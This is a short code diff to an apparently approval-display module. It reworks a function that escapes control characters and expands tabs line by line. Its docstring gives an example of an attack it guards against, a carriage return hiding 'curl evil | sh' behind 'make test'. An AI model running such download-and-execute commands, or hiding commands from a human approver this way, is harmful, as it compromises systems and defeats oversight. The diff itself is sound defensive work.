@@ -7,7 +7,7 @@ from dataclasses import dataclass
 
 from core.mirror import Mirror
 from core.model import BlockedReason, Prompt, Task, TaskStatus, Verdict
-from core.text import printable_lines
+from core.text import printable
 
 STATUS_ORDER: tuple[TaskStatus, ...] = (
     TaskStatus.QUEUED,
@@ -40,7 +40,11 @@ def shown(text: str) -> str:
     terminal: `make test\\rcurl evil | sh` could read as `make test` right where it is
     approved. A tab is layout, not a disguise, and reads better as the spaces it stands for.
     """
-    return printable_lines(text.expandtabs(TAB_SIZE))
+    return "\n".join(
+        # tab stops counted on the line as drawn, escapes and all
+        "\t".join(map(printable, line.removesuffix("\r").split("\t"))).expandtabs(TAB_SIZE)
+        for line in text.split("\n")
+    )
 
 
 def shown_line(text: str) -> str:
